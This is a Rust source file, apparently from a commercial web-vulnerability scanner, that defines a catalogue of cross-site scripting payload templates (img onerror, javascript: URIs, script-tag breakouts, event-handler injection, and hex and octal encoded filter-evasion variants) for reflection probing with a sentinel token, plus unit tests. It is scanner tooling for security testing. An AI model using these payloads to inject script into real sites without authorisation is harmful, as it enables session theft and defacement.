// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! XSS-oriented payload template catalogue for reflection probing.
//! `{{PAYLOAD}}` is replaced with the sentinel token at render time.

pub const DEFAULT_REFLECTED_PAYLOAD: &str = "__gospider_reflected__";
pub const REFLECTED_PARAM_NAME: &str = "gospider_ref";

#[derive(Debug, Clone)]
pub struct PayloadVariant {
    pub pattern: &'static str,
    pub aggressive: bool,
}

impl PayloadVariant {
    pub fn render(&self, token: &str) -> String {
        if token.is_empty() {
            return self.pattern.to_string();
        }
        self.pattern.replace("{{PAYLOAD}}", token)
    }
}

/// The curated, ordered payload list. Baseline entries are low-noise;
/// aggressive entries only run with `--reflected`.
pub fn default_payload_variants() -> Vec<PayloadVariant> {
    vec![
        PayloadVariant { pattern: "';{{PAYLOAD}};'", aggressive: false },
        PayloadVariant { pattern: "javascript:{{PAYLOAD}}", aggressive: true },
        PayloadVariant { pattern: "java%0ascript:{{PAYLOAD}}", aggressive: true },
        PayloadVariant { pattern: "data:text/javascript;,{{PAYLOAD}}", aggressive: true },
        PayloadVariant { pattern: "<iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: false },
        PayloadVariant { pattern: "\\x3ciMg src=a oNerrOr={{PAYLOAD}}\\x3e", aggressive: true },
        PayloadVariant { pattern: "\\74iMg src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: "'\"><iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: false },
        PayloadVariant { pattern: "\\x27\\x3E\\x3Cimg src=a oNerrOr={{PAYLOAD}}\\x3E", aggressive: true },
        PayloadVariant { pattern: "\\47\\76\\74img src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: "\"><iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: false },
        PayloadVariant { pattern: "\\x22\\x3e\\x3cimg src=a oNerrOr={{PAYLOAD}}\\x3e", aggressive: true },
        PayloadVariant { pattern: "\\42\\76\\74img src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: "'\"><iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: true },
        PayloadVariant { pattern: "\\x27\\x3e\\x3cimg src=a oNerrOr={{PAYLOAD}}\\x3e", aggressive: true },
        PayloadVariant { pattern: "\\47\\76\\74img src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: "1 --><iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: true },
        PayloadVariant { pattern: "1 --\\x3e\\x3ciMg src=a oNerrOr={{PAYLOAD}}\\x3e", aggressive: true },
        PayloadVariant { pattern: "1 --\\76\\74iMg src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: "]]><iMg src=a oNerrOr={{PAYLOAD}}>", aggressive: true },
        PayloadVariant { pattern: "]]\\x3e\\x3ciMg src=a oNerrOr={{PAYLOAD}}\\x3e", aggressive: true },
        PayloadVariant { pattern: "]]\\76\\74iMg src=a oNerrOr={{PAYLOAD}}\\76", aggressive: true },
        PayloadVariant { pattern: " oNpasTe={{PAYLOAD}} ", aggressive: false },
        PayloadVariant { pattern: "\" oNpasTe={{PAYLOAD}} a=\"", aggressive: false },
        PayloadVariant { pattern: "\\x22 oNpasTe={{PAYLOAD}} a=\\x22", aggressive: true },
        PayloadVariant { pattern: "\\42 oNpasTe={{PAYLOAD}} a=\\42", aggressive: true },
        PayloadVariant { pattern: "' oNpasTe={{PAYLOAD}} a='", aggressive: false },
        PayloadVariant { pattern: "\\x27 oNpasTe={{PAYLOAD}} a=\\x27", aggressive: true },
        PayloadVariant { pattern: "\\47 oNpasTe={{PAYLOAD}} a=\\47", aggressive: true },
        PayloadVariant { pattern: "</scrIpt><scrIpt>{{PAYLOAD}}</scrIpt>", aggressive: true },
        PayloadVariant { pattern: "\\x3c/scrIpt\\x3e\\x3cscript\\x3e{{PAYLOAD}}\\x3c/scrIpt\\x3e", aggressive: true },
        PayloadVariant { pattern: "\\74/scrIpt\\76\\74script\\76{{PAYLOAD}}\\74/scrIpt\\76", aggressive: true },
        PayloadVariant { pattern: "${{PAYLOAD}}", aggressive: false },
        PayloadVariant { pattern: "{{PAYLOAD}}", aggressive: false },
    ]
}

/// The low-noise subset used when aggressive reflection is off.
pub fn select_baseline_payloads(variants: &[PayloadVariant]) -> Vec<PayloadVariant> {
    variants.iter().filter(|v| !v.aggressive).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn render_substitutes_sentinel() {
        let variant = PayloadVariant { pattern: "';{{PAYLOAD}};'", aggressive: false };
        assert_eq!(
            variant.render(DEFAULT_REFLECTED_PAYLOAD),
            "';__gospider_reflected__;'"
        );
    }

    #[test]
    fn baseline_subset_is_non_empty_and_non_aggressive() {
        let all = default_payload_variants();
        let baseline = select_baseline_payloads(&all);
        assert!(!baseline.is_empty());
        assert!(baseline.len() < all.len());
        assert!(baseline.iter().all(|v| !v.aggressive));
    }
}
